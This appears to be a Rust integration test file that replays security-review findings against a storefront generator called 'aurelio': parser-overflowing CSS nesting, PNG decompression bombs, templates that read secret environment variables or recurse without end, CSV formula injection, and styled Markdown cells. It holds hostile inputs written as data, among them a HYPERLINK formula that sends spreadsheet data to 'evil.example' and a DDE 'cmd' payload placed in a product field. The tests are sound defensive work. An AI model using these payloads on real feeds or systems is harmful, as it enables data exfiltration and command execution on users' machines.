//! Hostile inputs through the real `aurelio` binary, each replaying a finding of the
//! security review: custom CSS nested deep enough to overflow the parser's stack, image
//! bombs, a catalog's own templates reading the environment or looping without end,
//! spreadsheet formulas in the CSV feeds, styles on Markdown table cells. Each must end in
//! a clear diagnostic (or a neutralised output), never an abort, a leak or a hang.

mod common;

use common::png_bomb::png_bomb;
use common::*;
use serde_json::Value;
use std::ffi::OsStr;
use std::path::{Path, PathBuf};

/// A copy of the demo catalog to change, in a fresh directory: (guard, catalog path).
fn demo_copy() -> (tempfile::TempDir, PathBuf) {
    let dir = tempdir();
    let site = dir.path().join("site");
    copy_dir(&demo_store(), &site);
    (dir, site)
}

/// Rewrites the catalog's `products.jsonl`, changing the first product with `change`.
fn change_first_product(site: &Path, change: impl FnOnce(&mut Value)) {
    let path = site.join("products.jsonl");
    let text = std::fs::read_to_string(&path).expect("products.jsonl");
    let mut lines: Vec<String> = text.lines().map(str::to_owned).collect();
    let mut first: Value = serde_json::from_str(&lines[0]).expect("a product line");
    change(&mut first);
    lines[0] = first.to_string();
    std::fs::write(&path, lines.join("\n") + "\n").expect("write products.jsonl");
}

/// Whether a run ended by a signal or an abort (exit 134 is SIGABRT through a shell).
fn crashed(run: &Run) -> bool {
    run.code.is_none() || run.code == Some(134)
}

/// `aurelio build` of `site` into a fresh directory: the run and the output path.
fn build_into(site: &Path, dir: &Path) -> (Run, PathBuf) {
    let out = dir.join("out");
    (try_build(site, &out, None), out)
}

// ---------------------------------------------------------------------------------------
// Custom CSS nesting
// ---------------------------------------------------------------------------------------

/// A theme file whose custom CSS is `css`.
fn theme_with_css(dir: &Path, css: &str) -> PathBuf {
    let theme = serde_json::json!({
        "version": 1,
        "extends": "minimal",
        "metadata": { "name": "Deep" },
        "css": css,
    });
    let path = dir.join("theme.json");
    std::fs::write(&path, serde_json::to_string_pretty(&theme).expect("json")).expect("write");
    path
}

#[test]
fn deeply_nested_custom_css_is_a_diagnostic_not_an_abort() {
    let dir = tempdir();
    // The review's three inputs: each aborted `aurelio` with a stack overflow (exit 134).
    for (css, column, limit) in [
        (".a{".repeat(33_000), 195, 64),
        ("calc(".repeat(19_000), 45, 8),
        (":is(".repeat(24_000), 36, 8),
    ] {
        let file = theme_with_css(dir.path(), &css);
        let run = aurelio(&[OsStr::new("theme"), OsStr::new("validate"), file.as_os_str()]);
        assert!(!crashed(&run), "{}: crashed\n{}", &css[..8], run.stderr);
        assert!(!run.success, "{}: accepted", &css[..8]);
        let shown = format!("{}{}", run.stdout, run.stderr);
        assert!(shown.contains(&format!("nesting limit is {limit})")), "{}: {shown}", &css[..8]);
        assert!(shown.contains(&format!("line 1, column {column}")), "{}: {shown}", &css[..8]);
    }
    // A stylesheet within the limit still validates.
    let file = theme_with_css(dir.path(), ".a { .b { color: red; } }");
    aurelio(&[OsStr::new("theme"), OsStr::new("validate"), file.as_os_str()]).success();
}

#[test]
fn a_catalog_theme_with_deep_css_fails_its_build_cleanly() {
    let (dir, site) = demo_copy();
    theme_with_css(&site, &".a{".repeat(8_000));
    let (run, out) = build_into(&site, dir.path());
    assert!(!crashed(&run), "crashed\n{}", run.stderr);
    assert!(!run.success, "built");
    assert!(run.stderr.contains("nesting limit is 64"), "{}", run.stderr);
    assert!(!out.join("index.html").exists(), "a failed build writes nothing");
    // The same catalog with ordinary custom CSS builds.
    theme_with_css(&site, ".product-card { & h3 { letter-spacing: 0.01em; } }");
    build(&site, &out);
}

// ---------------------------------------------------------------------------------------
// Image bombs
// ---------------------------------------------------------------------------------------

#[test]
fn an_image_bomb_in_a_catalog_is_refused_from_its_header() {
    let (dir, site) = demo_copy();
    change_first_product(&site, |p| p["images"][0]["src"] = "images/bomb.png".into());
    // The same recipe, small: a valid PNG the build takes, so what refuses the big ones
    // below is a limit, not a broken file.
    std::fs::write(site.join("images/bomb.png"), png_bomb(30, 20)).expect("write a small one");
    let (run, out) = build_into(&site, dir.path());
    assert!(run.success, "a small PNG of the bomb recipe builds:\n{}", run.stderr);
    assert!(!run.stderr.contains("bomb.png"), "no diagnostic for the small one:\n{}", run.stderr);
    std::fs::remove_dir_all(&out).expect("remove the output");
    std::fs::write(site.join("images/bomb.png"), png_bomb(7070, 7070)).expect("write the bomb");
    let (run, _) = build_into(&site, dir.path());
    assert!(!crashed(&run) && !run.success, "the bomb was built:\n{}", run.stderr);
    assert!(
        run.stderr.contains("`images/bomb.png`") && run.stderr.contains("limit is 40 megapixels"),
        "{}",
        run.stderr
    );
    // 16-bit within the pixel limit but over the decoded-size limit.
    std::fs::write(site.join("images/bomb.png"), png_bomb(5000, 5000)).expect("write");
    let (run, _) = build_into(&site, dir.path());
    assert!(!crashed(&run) && !run.success, "the 200 MB bomb was built:\n{}", run.stderr);
    assert!(
        run.stderr.contains("`images/bomb.png`") && run.stderr.contains("200 MB decoded"),
        "{}",
        run.stderr
    );
}

// ---------------------------------------------------------------------------------------
// A catalog's own templates
// ---------------------------------------------------------------------------------------

/// The demo catalog with `templates/page.html` replaced by `template`, built with the
/// secret environment variables set: the run and the output.
fn build_with_page_template(template: &str) -> (tempfile::TempDir, Run, PathBuf) {
    let (dir, site) = demo_copy();
    std::fs::create_dir_all(site.join("templates")).expect("templates/");
    std::fs::write(site.join("templates/page.html"), template).expect("write the template");
    let out = dir.path().join("out");
    let args: Vec<&OsStr> = vec![
        "build".as_ref(),
        "--site".as_ref(),
        site.as_os_str(),
        "--out".as_ref(),
        out.as_os_str(),
        BUILD_CACHE_FLAG.as_ref(),
        shared_cache().as_os_str(),
    ];
    let output = command(&args)
        .env("AURELIO_SECRET_KEY", "sekrit-0123456789abcdef")
        .env("AWS_SECRET_ACCESS_KEY", "aws-sekrit-key")
        .output()
        .expect("run aurelio");
    let run = Run::of(command_line(&args), &output);
    (dir, run, out)
}

/// Whether any file under `dir` contains `needle`.
fn anywhere(dir: &Path, needle: &str) -> bool {
    snapshot(dir).values().any(|bytes| bytes.windows(needle.len()).any(|w| w == needle.as_bytes()))
}

#[test]
fn templates_cannot_read_the_environment() {
    for call in [
        r#"{{ get_env(name="AURELIO_SECRET_KEY") }}"#,
        r#"{{ get_env(name="AWS_SECRET_ACCESS_KEY", default="none") }}"#,
    ] {
        let template =
            format!("{{% extends \"base.html\" %}}{{% block content %}}{call}{{% endblock %}}");
        let (_dir, run, out) = build_with_page_template(&template);
        assert!(!run.success, "{call}: built");
        assert!(run.stderr.contains("`get_env` is not available in templates"), "{}", run.stderr);
        assert!(!run.stderr.contains("sekrit"), "{}", run.stderr);
        assert!(!out.exists() || !anywhere(&out, "sekrit"), "{call}: a secret was published");
    }
}

#[test]
fn template_recursion_and_deep_nesting_are_refused() {
    // Each would overflow the rendering (or parsing) thread's stack and abort the build.
    for (template, message) in [
        ("{% include \"page.html\" %}", "templates recurse without end"),
        ("{% macro f() %}{{ self::f() }}{% endmacro %}{{ self::f() }}", "macro `f` of `page.html`"),
        (&format!("{{{{ {}1 }}}}", "(".repeat(50_000)), "nesting limit is 64"),
    ] {
        let (_dir, run, _) = build_with_page_template(template);
        assert!(!crashed(&run) && !run.success, "{}: {}", &template[..20], run.stderr);
        assert!(run.stderr.contains(message), "{}: {}", &template[..20], run.stderr);
    }
}

#[test]
fn template_loops_are_bounded() {
    // A range of a billion items (32 GB of values) and a loop writing 1.6 GB of output.
    for (template, message) in [
        ("{% for i in range(end=1000000000) %}{% endfor %}", "the limit is 10000"),
        (
            "{% for i in range(end=10000) %}{% for j in range(end=10000) %}\
             xxxxxxxxxxxxxxxx{% endfor %}{% endfor %}",
            "the limit of a rendered page",
        ),
    ] {
        let (_dir, run, _) = build_with_page_template(template);
        assert!(!crashed(&run) && !run.success, "{template}: {}", run.stderr);
        assert!(run.stderr.contains(message), "{template}: {}", run.stderr);
    }
}

// ---------------------------------------------------------------------------------------
// Feeds and Markdown
// ---------------------------------------------------------------------------------------

/// RFC 4180 records: fields separated by commas, quoted ones with `""` for a quote.
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let (mut records, mut record, mut field) = (Vec::new(), Vec::new(), String::new());
    let (mut quoted, mut chars) = (false, text.chars().peekable());
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => field.push(c),
            (false, '"') => quoted = true,
            (false, ',') => record.push(std::mem::take(&mut field)),
            (false, '\n') => {
                record.push(std::mem::take(&mut field));
                records.push(std::mem::take(&mut record));
            }
            (false, '\r') => {}
            (false, c) => field.push(c),
        }
    }
    records
}

#[test]
fn csv_feeds_make_formulas_inert() {
    let (dir, site) = demo_copy();
    let title = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")";
    change_first_product(&site, |p| {
        p["title"] = title.into();
        p["vendor"] = "@SUM(1+1)*cmd|' /C calc'!A0".into();
    });
    let (run, out) = build_into(&site, dir.path());
    assert!(run.success, "{}", run.stderr);
    for feed in ["feeds/meta.csv", "feeds/tiktok.csv"] {
        let path = out.join(feed);
        let records = parse_csv(&std::fs::read_to_string(&path).expect(feed));
        let headers = &records[0];
        let column = |name: &str| headers.iter().position(|h| h == name).expect(name);
        let (title_at, brand_at, price_at) = (column("title"), column("brand"), column("price"));
        let mut seen = false;
        for record in &records[1..] {
            for cell in record {
                assert!(!cell.starts_with(['=', '+', '@']), "{feed}: live formula `{cell}`");
            }
            assert!(!record[price_at].starts_with('\''), "{feed}: price {}", &record[price_at]);
            if record[title_at].contains("HYPERLINK") {
                let cell = &record[title_at];
                assert!(cell.starts_with(&format!("'{title}")), "{feed}: {cell}");
                assert!(record[brand_at].starts_with("'@SUM"), "{feed}: {}", &record[brand_at]);
                seen = true;
            }
        }
        assert!(seen, "{feed}: the product is in the feed");
        let check = aurelio(&[OsStr::new("feed"), OsStr::new("check"), path.as_os_str()]);
        assert!(check.stdout.contains(", 0 errors,"), "{feed}: {}", check.stdout);
    }
    // The JSON feed is no spreadsheet: the title as written.
    let json = std::fs::read_to_string(out.join("feeds/tiktok.json")).expect("tiktok.json");
    let encoded = serde_json::to_string(title).expect("json");
    let unquoted = &encoded[..encoded.len() - 1];
    assert!(json.contains(unquoted), "tiktok.json has no `{unquoted}`");
}

#[test]
fn markdown_table_cells_keep_only_their_alignment() {
    let dir = tempdir();
    let out = dir.path().join("out");
    build(&hostile_store(), &out);
    let html = std::fs::read_to_string(out.join("pages/evil/index.html")).expect("the page");
    let lower = html.to_lowercase();
    assert!(lower.contains(">overlay</td>") && lower.contains(">head</th>"), "{html}");
    assert!(!lower.contains("position:fixed") && !lower.contains("position: fixed"), "{html}");
    assert!(!lower.contains("tracker.example"), "{html}");
    assert!(html.contains("<th style=\"text-align: center\">centre</th>"), "{html}");
}
